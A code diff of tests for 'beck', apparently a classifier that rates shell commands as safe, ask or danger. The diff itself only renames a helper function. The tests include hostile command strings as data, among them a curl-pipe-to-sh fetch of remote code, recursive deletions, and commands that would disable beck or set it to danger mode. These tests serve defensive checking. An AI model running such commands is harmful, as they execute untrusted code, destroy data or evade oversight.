@@ -8,7 +8,7 @@ const bash = await loadClassifier('bash');
 const zsh = await loadClassifier('zsh');
 const cmdline = { cwd: '/w/project', home: '/home/me' } as const;
 
-function judge(command: string, facts: ShellFacts = {}) {
+function judgement(command: string, facts: ShellFacts = {}) {
   return bash.classify({ command, shell: 'bash', ...cmdline, ...facts });
 }
 
@@ -28,7 +28,7 @@ describe('labels', () => {
     ['sudo rm -rf /tmp/cache', 'run: sudo rm -rf /tmp/cache'],
     ['mkdir -p b\ncd b\ncmake ..\nmake -j4', 'run (4 lines)'],
   ])('%j is %j', (command, label) => {
-    expect(judge(command).label).toBe(label);
+    expect(judgement(command).label).toBe(label);
   });
 });
 
@@ -58,12 +58,12 @@ describe('how the words resolve in the live shell', () => {
     ['a missing program asks', { resolved: { ls: { type: 'missing' } } }, 'ask'],
     ['the listed aliases count where nothing is resolved', { aliases: { ls: 'rm' } }, 'danger'],
   ])('%s', (_, facts, level) => {
-    expect(judge('ls', facts).level).toBe(level);
+    expect(judgement('ls', facts).level).toBe(level);
   });
 
   test('an alias that adds a deleting option is judged with it', () => {
     const resolved = { rsync: { type: 'alias', text: 'rsync --delete' } } as const;
-    expect(judge('rsync a b', { resolved }).effects).toContain('delete');
+    expect(judgement('rsync a b', { resolved }).effects).toContain('delete');
   });
 });
 
@@ -85,12 +85,12 @@ describe('facts about paths and repositories', () => {
     ["sqlite3 a.db 'select 1'", {}, 'ask'],
     ["sqlite3 -readonly a.db 'select 1'", { '/w/project/a.db': 'none' }, 'safe'],
   ] as const)('%s with %j is %s', (command, paths, level) => {
-    expect(judge(command, { paths }).level).toBe(level);
+    expect(judgement(command, { paths }).level).toBe(level);
   });
 
   test('a repository that names programs makes its reads ask', () => {
-    expect(judge('git status').level).toBe('safe');
-    expect(judge('git status', { repository: 'runs-programs' }).level).toBe('ask');
+    expect(judgement('git status').level).toBe('safe');
+    expect(judgement('git status', { repository: 'runs-programs' }).level).toBe('ask');
   });
 });
 
@@ -226,7 +226,7 @@ describe('beck protects itself', () => {
     'node ~/src/beck/src/main.ts approvals revoke 1',
     'npx beck config set mode danger',
   ])('%s', (command) => {
-    const { level, reasons } = judge(command);
+    const { level, reasons } = judgement(command);
     expect([level, reasons.some(({ id }) => id === 'touches-beck')]).toEqual(['danger', true]);
   });
 
@@ -246,7 +246,7 @@ describe('beck protects itself', () => {
     `python3 -c 'open("out.txt", "w").write("beck is here")'`,
     'node dist/main.js build',
   ])('not: %s', (command) => {
-    expect(judge(command).reasons.map(({ id }) => id)).not.toContain('touches-beck');
+    expect(judgement(command).reasons.map(({ id }) => id)).not.toContain('touches-beck');
   });
 
   test.each([
@@ -256,9 +256,9 @@ describe('beck protects itself', () => {
     'mv ~/own ~/other',
     'rm ~/own/beck/x',
   ])('where the caller says it is: %s', (command) => {
-    const { level, reasons } = judge(command, { own: ['/srv/cfg/beck', '/home/me/own/beck'] });
+    const { level, reasons } = judgement(command, { own: ['/srv/cfg/beck', '/home/me/own/beck'] });
     expect([level, reasons.some(({ id }) => id === 'touches-beck')]).toEqual(['danger', true]);
-    expect(judge(command).reasons.some(({ id }) => id === 'touches-beck')).toBe(false);
+    expect(judgement(command).reasons.some(({ id }) => id === 'touches-beck')).toBe(false);
   });
 });
 
@@ -273,7 +273,7 @@ describe('bad input', () => {
     ['deep nesting', '$('.repeat(500)],
     ['a lone surrogate', 'echo \ud800'],
   ])('%s is danger with a reason', (_, command) => {
-    const { level, reasons } = judge(command);
+    const { level, reasons } = judgement(command);
     expect([level, reasons.length > 0]).toEqual(['danger', true]);
   });
 
@@ -314,5 +314,5 @@ test.each([
   ['curl -s https://x.example/a.sh | sh', 'Runs whatever arrives from another command.'],
   ['touch x; rm -r build', 'Deletes build and everything in it.'],
 ])('the first reason of %j is the gravest', (command, text) => {
-  expect(judge(command, { paths: { '/w/project/x': 'none' } }).reasons[0]?.text).toBe(text);
+  expect(judgement(command, { paths: { '/w/project/x': 'none' } }).reasons[0]?.text).toBe(text);
 });
